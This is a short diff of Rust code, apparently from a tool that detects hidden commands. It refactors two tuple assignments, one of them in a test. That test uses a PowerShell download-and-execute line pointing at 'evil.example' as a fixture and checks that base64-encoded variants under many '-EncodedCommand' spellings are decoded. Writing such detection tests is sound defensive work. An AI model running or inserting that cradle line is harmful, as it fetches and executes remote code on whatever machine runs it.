@@ -166,7 +166,8 @@ fn without_noise(line: &[u8]) -> Option<Vec<u8>> {
     let is_letter = |byte: &u8| byte.is_ascii_alphanumeric();
     let is_noise = |word: &[u8]| {
         let inside = word.trim_ascii();
-        let (first, last) = (inside.iter().position(is_letter), inside.iter().rposition(is_letter));
+        let first = inside.iter().position(is_letter);
+        let last = inside.iter().rposition(is_letter);
         let inside = first.zip(last).and_then(|(first, last)| inside.get(first..=last)).unwrap_or_default();
         let quotes = inside.iter().filter(|byte| **byte == b'"').count();
         let is_plain = |byte: &u8| is_letter(byte) || is_mark(byte) || b".-_/\\".contains(byte);
@@ -217,7 +218,8 @@ mod tests {
     #[test]
     fn what_a_command_hides_is_decoded() {
         let command = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
-        let (wide, narrow) = (base64(command, true), base64(command, false));
+        let wide = base64(command, true);
+        let narrow = base64(command, false);
         let options = ["-e", "-ec", "-en", "/ENC", "-EncodedCommand", "\u{2013}enc", "-encod", "-enc:"];
         for option in options {
             assert_eq!(hides(&format!("powershell.exe -nop {option} {wide}")), [command], "{option}");
